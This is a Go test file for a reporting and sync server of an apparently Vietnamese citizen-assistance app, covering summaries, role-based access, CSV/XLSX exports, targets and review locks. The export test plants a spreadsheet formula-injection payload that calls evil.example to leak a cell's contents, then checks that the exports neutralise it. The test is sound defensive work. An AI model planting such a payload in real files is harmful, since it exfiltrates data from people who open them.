package server

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// reportFixture pushes a little activity: one citizen helped by teams A1
// and B1 (counted once, where first helped), another by A1 only, a session
// held by A2, and a log of A1 that is later deleted.
func reportFixture(t *testing.T) *testEnv {
	e := newTestEnv(t)
	const citizen, other = "038090001234", "038090005678"
	r := e.push("memberA1",
		logCreate(1, uuidN(1), "occurred_at", "2026-03-02T02:00:00Z", "citizen_id_number", citizen),
		logCreate(2, uuidN(2), "occurred_at", "2026-03-05T02:00:00Z", "citizen_id_number", other,
			"outcomes", []map[string]any{{"service": "payment_account", "result": "not_done", "barrier": "no_smartphone"}}),
		logCreate(3, uuidN(3), "occurred_at", "2026-03-06T02:00:00Z"),
		mut{"mid": 4, "table": "assistance_logs", "op": "delete", "id": uuidN(3)})
	for _, res := range r.Results {
		if res.Status != "applied" {
			t.Fatalf("push A1: %+v", r.Results)
		}
	}
	e.push("memberB1", logCreate(1, uuidN(11), "occurred_at", "2026-04-01T02:00:00Z", "citizen_id_number", citizen))
	e.push("memberA2", mut{"mid": 1, "table": "training_sessions", "op": "create", "id": uuidN(21), "fields": map[string]any{
		"status": "held", "held_at": "2026-03-10T01:00:00Z", "topics": []string{"binh_dan_hoc_vu_so"},
		"attendees": 12, "women": 7, "minority": 2, "elderly": 3}})
	return e
}

func reportPath(kind string, area int64, from, to string) string {
	return fmt.Sprintf("/v1/reports/%s?area_id=%d&from=%s&to=%s", kind, area, url.QueryEscape(from), url.QueryEscape(to))
}

func TestReportSummaryHTTP(t *testing.T) {
	e := reportFixture(t)
	r := e.do("GET", reportPath("summary", e.province.ID, "2026-01-01", "2026-12-31"), e.token("coordP"), nil)
	if r.Status != 200 {
		t.Fatalf("summary: %d %s", r.Status, r.Body)
	}
	body := r.JSON(t)
	totals := body["totals"].(map[string]any)
	got := []any{totals["logs"], totals["citizens"], totals["sessions"], totals["attendees"], totals["women"],
		totals["reached"].(map[string]any)["vneid_l2"], totals["barriers"].(map[string]any)["no_smartphone"]}
	want := []any{3.0, 2.0, 1.0, 12.0, 7.0, 1.0, 1.0}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("province totals logs, citizens, sessions, attendees, women, reached vneid_l2, barrier = %v, want %v", got, want)
	}
	// Commune B: its team helped a citizen first helped in A, so no new citizen.
	r = e.do("GET", reportPath("summary", e.communeB.ID, "2026-01-01", "2026-12-31"), e.token("coordB"), nil)
	if tb := r.JSON(t)["totals"].(map[string]any); tb["logs"] != 1.0 || tb["citizens"] != 0.0 {
		t.Errorf("commune B logs, citizens = %v, %v, want 1, 0", tb["logs"], tb["citizens"])
	}
	// Team A2 held a session; team B1 has been inactive since April (14 days).
	r = e.do("GET", reportPath("summary", e.province.ID, "2026-01-01", "2026-12-31"), e.token("admin"), nil)
	var inactive []string
	for _, x := range r.JSON(t)["inactive_teams"].([]any) {
		inactive = append(inactive, x.(map[string]any)["name"].(string))
	}
	if len(inactive) != 3 {
		t.Errorf("inactive teams = %v, want all three (the fixture's activity is months old)", inactive)
	}
}

func TestReportAuthorizationHTTP(t *testing.T) {
	e := reportFixture(t)
	cases := []struct {
		user   string
		area   int64
		status int
	}{
		{"coordA", e.communeA.ID, 200}, {"coordA", e.villageA1.ID, 200}, {"coordA", e.communeB.ID, 404},
		{"coordA", e.province.ID, 404}, {"memberA1", e.villageA1.ID, 200}, {"memberA1", e.communeA.ID, 403},
		{"memberA1", e.villageB1.ID, 404}, {"coordB", e.villageA1.ID, 404},
	}
	for _, c := range cases {
		for _, kind := range []string{"summary", "export.csv", "export.xlsx"} {
			r := e.do("GET", reportPath(kind, c.area, "2026-01-01", "2026-12-31"), e.token(c.user), nil)
			if r.Status != c.status {
				t.Errorf("%s %s of area %d: status %d, want %d", c.user, kind, c.area, r.Status, c.status)
			}
		}
	}
	// A member gets their team's figures only.
	r := e.do("GET", reportPath("summary", e.villageA1.ID, "2026-01-01", "2026-12-31"), e.token("memberA1"), nil)
	teams := r.JSON(t)["teams"].([]any)
	if len(teams) != 1 || teams[0].(map[string]any)["team_id"] != float64(e.teamA1.ID) {
		t.Errorf("member sees teams %v, want only their own", teams)
	}
	// Bad input names the fields and changes nothing.
	for _, q := range []string{"/v1/reports/summary?area_id=1", "/v1/reports/summary?area_id=1&from=2026-02-30&to=2026-03-01",
		"/v1/reports/summary?area_id=x&from=2026-01-01&to=2026-03-01"} {
		r := e.do("GET", q, e.token("admin"), nil)
		if r.Status != 422 && r.Status != 400 {
			t.Errorf("%s: status %d, want 422 or 400: %s", q, r.Status, r.Body)
		}
	}
	r = e.do("GET", reportPath("summary", e.province.ID, "2026-03-01", "2026-01-01"), e.token("admin"), nil)
	if r.Status != 422 || r.ErrorCode() != "validation_failed" {
		t.Errorf("to before from: %d %s, want 422 validation_failed", r.Status, r.Body)
	}
}

func TestReportExports(t *testing.T) {
	e := reportFixture(t)
	// A commune coordinator renames a village to a formula: it reaches the
	// province's files as text, never as a formula.
	evil := `=HYPERLINK("http://evil.example/?leak="&C3,"Xóm")`
	if r := e.do("PATCH", fmt.Sprintf("/v1/areas/%d", e.villageA2.ID), e.token("coordA"), map[string]any{"name": evil}); r.Status != 200 {
		t.Fatalf("rename: %d %s", r.Status, r.Body)
	}
	r := e.do("GET", reportPath("export.csv", e.province.ID, "2026-01-01", "2026-12-31"), e.token("coordP"), nil)
	if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("csv: %d %s", r.Status, r.Header.Get("Content-Type"))
	}
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF"))))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := 0
	for head < len(recs) && recs[head][0] != "Loại dòng" {
		head++
	}
	if head == len(recs) {
		t.Fatalf("no header row in the CSV:\n%s", r.Body)
	}
	col := map[string]int{}
	for i, h := range recs[head] {
		col[h] = i
	}
	byUnit := map[string][]string{}
	var kinds []string
	for _, rec := range recs[head+1:] {
		byUnit[rec[col["Đơn vị"]]] = rec
		kinds = append(kinds, rec[col["Loại dòng"]])
	}
	// Commune A: its villages, its subtotal; commune B likewise; the total.
	// (Every fixture area has 1,000 residents, so no commune has residents
	// left over for a "direct" row.)
	if got, want := strings.Join(kinds, ","), "Chi tiết,Chi tiết,Cộng cấp xã,Chi tiết,Cộng cấp xã,Tổng cộng"; got != want {
		t.Errorf("row kinds %s, want %s", got, want)
	}
	a1 := byUnit["Thôn A1"]
	if a1 == nil || a1[col["Xã/phường"]] != "Xã A" || a1[col["Người dân được hỗ trợ (lần đầu)"]] != "2" ||
		a1[col["Hỗ trợ thành công: Kích hoạt định danh điện tử VNeID mức 2"]] != "1" || a1[col["Số thành viên"]] != "2" ||
		a1[col["Thành viên/100 dân"]] != "0.2" || a1[col["Cấp"]] != "Thôn" {
		t.Errorf("village A1 row = %v (columns %v)", a1, recs[head])
	}
	if a2 := byUnit["'"+evil]; a2 == nil || a2[col["Người tham dự"]] != "12" || a2[col["Nữ"]] != "7" {
		t.Errorf("village A2 (renamed) row = %v; rows %v", a2, byUnit)
	}
	if a := byUnit["Cộng Xã A"]; a == nil || a[col["Người dân được hỗ trợ (lần đầu)"]] != "2" || a[col["Lượt hỗ trợ"]] != "2" ||
		a[col["Số tổ"]] != "2" || a[col["Dân số"]] != "2000" {
		t.Errorf("commune A subtotal = %v, want 2 citizens, 2 visits, 2 teams, its villages' 2000 residents", a)
	}
	if tot := byUnit["Tổng cộng Tỉnh Thử"]; tot == nil || tot[col["Lượt hỗ trợ"]] != "3" || tot[col["Số tổ"]] != "3" || tot[col["Dân số"]] != "3000" {
		t.Errorf("total = %v, want 3 visits, 3 teams, 3000 residents", tot)
	}
	if bytes.Contains(r.Body, []byte(`,"=HYPERLINK`)) {
		t.Error("the CSV carries the formula raw")
	}

	r = e.do("GET", reportPath("export.xlsx", e.communeA.ID, "2026-01-01", "2026-12-31"), e.token("coordA"), nil, "Accept-Language", "en")
	if r.Status != 200 {
		t.Fatalf("xlsx: %d %s", r.Status, r.Body)
	}
	f, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 2 || got[0] != "Report" || got[1] != "Commune summary" {
		t.Errorf("sheets %v, want Report and Commune summary", got)
	}
	rows, err := f.GetRows("Report")
	if err != nil {
		t.Fatal(err)
	}
	last := rows[len(rows)-1]
	if last[0] != "Total" || last[2] != "Total Xã A" || last[10] != "2" {
		t.Errorf("xlsx total row = %v, want the total of Xã A with 2 citizens", last)
	}
	for _, row := range rows {
		for _, c := range row {
			if strings.Contains(c, "HYPERLINK") && !strings.HasPrefix(c, "'") {
				t.Errorf("XLSX cell %q is not neutralized", c)
			}
		}
	}
}

func TestTargetsHTTP(t *testing.T) {
	e := reportFixture(t)
	create := func(user string, body map[string]any) response {
		return e.do("POST", "/v1/targets", e.token(user), body)
	}
	r := create("admin", map[string]any{"indicator": "vneid_l2_activated", "area_id": e.communeA.ID, "period": "year", "year": 2026, "goal": 100})
	if r.Status != 201 {
		t.Fatalf("create: %d %s", r.Status, r.Body)
	}
	parent := r.JSON(t)
	if parent["numerator"] != 1.0 {
		t.Errorf("commune A numerator = %v, want 1 (one citizen with VNeID level 2 first helped in A)", parent["numerator"])
	}
	id := int64(parent["id"].(float64))
	r = e.do("POST", fmt.Sprintf("/v1/targets/%d/allocate", id), e.token("coordA"), map[string]any{"method": "proportional"})
	if r.Status != 201 {
		t.Fatalf("allocate: %d %s", r.Status, r.Body)
	}
	items := r.JSON(t)["items"].([]any)
	if len(items) != 2 || items[0].(map[string]any)["goal"] != 50.0 || items[1].(map[string]any)["goal"] != 50.0 {
		t.Errorf("allocated %v, want two children with goal 50 (equal populations)", items)
	}
	for _, c := range []struct {
		user   string
		body   map[string]any
		status int
	}{
		{"coordA", map[string]any{"indicator": "vneid_l2_activated", "area_id": e.communeA.ID, "period": "year", "year": 2027, "goal": 10}, 403},
		{"coordA", map[string]any{"indicator": "vneid_l2_activated", "area_id": e.villageB1.ID, "period": "year", "year": 2027, "goal": 10}, 404},
		{"memberA1", map[string]any{"indicator": "vneid_l2_activated", "area_id": e.villageA1.ID, "period": "year", "year": 2027, "goal": 10}, 403},
		{"coordA", map[string]any{"indicator": "vneid_l2_activated", "area_id": e.villageA1.ID, "period": "campaign", "goal": 10}, 422},
		{"coordA", map[string]any{"indicator": "nope", "area_id": e.villageA1.ID, "period": "year", "year": 2027, "goal": 10}, 422},
		{"coordA", map[string]any{"indicator": "vneid_l2_activated", "area_id": e.villageA1.ID, "period": "quarter", "year": 2027, "quarter": 2, "goal": 10}, 201},
	} {
		if r := create(c.user, c.body); r.Status != c.status {
			t.Errorf("%s creates %v: %d %s, want %d", c.user, c.body, r.Status, r.Body, c.status)
		}
	}
	r = e.do("GET", "/v1/targets", e.token("memberA1"), nil)
	for _, it := range r.JSON(t)["items"].([]any) {
		if it.(map[string]any)["area_id"] != float64(e.villageA1.ID) {
			t.Errorf("member sees target %v", it)
		}
	}
	if r := e.do("GET", "/v1/targets", e.token("memberB1"), nil); len(r.JSON(t)["items"].([]any)) != 0 {
		t.Errorf("member of B1 sees targets %s", r.Body)
	}
}

func TestReviewActionsHTTP(t *testing.T) {
	e := reportFixture(t)
	cases := []struct {
		user, path string
		status     int
	}{
		{"memberA1", "/v1/review/logs/" + uuidN(1) + "/lock", 403},
		{"coordB", "/v1/review/logs/" + uuidN(1) + "/lock", 404},
		{"coordA", "/v1/review/logs/" + uuidN(1) + "/lock", 204},
		{"coordB", "/v1/review/sessions/" + uuidN(21) + "/lock", 404},
		{"coordA", "/v1/review/sessions/" + uuidN(21) + "/lock", 204},
		{"coordA", "/v1/review/sessions/" + uuidN(99) + "/lock", 404},
	}
	for _, c := range cases {
		if r := e.do("POST", c.path, e.token(c.user), nil); r.Status != c.status {
			t.Errorf("%s POST %s: %d %s, want %d", c.user, c.path, r.Status, r.Body, c.status)
		}
	}
	// The author's edit of the locked log is refused, visibly.
	p := e.push("memberA1", mut{"mid": 5, "table": "assistance_logs", "op": "patch", "id": uuidN(1), "base_version": 1,
		"fields": map[string]any{"notes": "late edit"}})
	if p.Results[0].Code != "locked" {
		t.Errorf("patch of a locked log: %+v, want locked", p.Results[0])
	}
	// The lock reaches the phone through sync.
	pr := e.pull("memberA2", map[string]string{}, 500)
	found := false
	for _, c := range pr.Scopes[fmt.Sprintf("team:%d", e.teamA2.ID)].Changes {
		found = found || (c.Table == "training_sessions" && strings.Contains(string(c.Row), `"status":"locked"`))
	}
	if !found {
		t.Errorf("the locked session does not reach team A2's phone")
	}
	// Progress reports: the lead appends, a coordinator voids.
	e.push("leadA1", mut{"mid": 1, "table": "progress_reports", "op": "create", "id": uuidN(31),
		"fields": map[string]any{"indicator": "households_fibre", "as_of": "2026-03-01", "value": 12}})
	if r := e.do("POST", "/v1/review/progress/"+uuidN(31)+"/void", e.token("leadA1"), nil); r.Status != 403 {
		t.Errorf("lead voids: %d, want 403", r.Status)
	}
	sum := func() any {
		r := e.do("GET", reportPath("summary", e.villageA1.ID, "2026-01-01", "2026-12-31"), e.token("coordA"), nil)
		return r.JSON(t)["totals"].(map[string]any)["manual"].(map[string]any)["households_fibre"]
	}
	if got := sum(); got != 12.0 {
		t.Errorf("manual before void = %v, want 12", got)
	}
	if r := e.do("POST", "/v1/review/progress/"+uuidN(31)+"/void", e.token("coordA"), nil); r.Status != 204 {
		t.Errorf("coordinator voids: %d %s", r.Status, r.Body)
	}
	if got := sum(); got != nil {
		t.Errorf("manual after void = %v, want none", got)
	}
	trail, err := e.store.AuditTrail(t.Context(), "progress_reports", uuidN(31))
	if err != nil || len(trail) != 2 || trail[1].Action != "void" {
		t.Errorf("audit trail %+v, %v: want create then void", trail, err)
	}
}

func TestResolveConflictHTTP(t *testing.T) {
	e := newTestEnv(t)
	e.push("memberA1", mut{"mid": 1, "table": "training_sessions", "op": "create", "id": uuidN(41),
		"fields": map[string]any{"place": "Nhà văn hóa"}})
	e.push("leadA1", mut{"mid": 1, "table": "training_sessions", "op": "patch", "id": uuidN(41), "base_version": 0,
		"fields": map[string]any{"place": "Trường học"}})
	var conflict string
	if err := rawDB(t, e).QueryRow(`SELECT id FROM sync_conflicts`).Scan(&conflict); err != nil {
		t.Fatalf("no conflict recorded: %v", err)
	}
	for _, c := range []struct {
		user   string
		status int
	}{{"coordB", 404}, {"memberA2", 404}, {"memberA1", 403}, {"coordA", 204}} {
		r := e.do("POST", "/v1/review/conflicts/"+conflict+"/resolve", e.token(c.user), map[string]any{"resolution": "kept the school"})
		if r.Status != c.status {
			t.Errorf("%s resolves: %d %s, want %d", c.user, r.Status, r.Body, c.status)
		}
	}
	var resolved bool
	var note string
	rawDB(t, e).QueryRow(`SELECT resolved, resolution FROM sync_conflicts WHERE id = ?`, conflict).Scan(&resolved, &note)
	if !resolved || note != "kept the school" {
		t.Errorf("conflict resolved = %v, %q", resolved, note)
	}
}
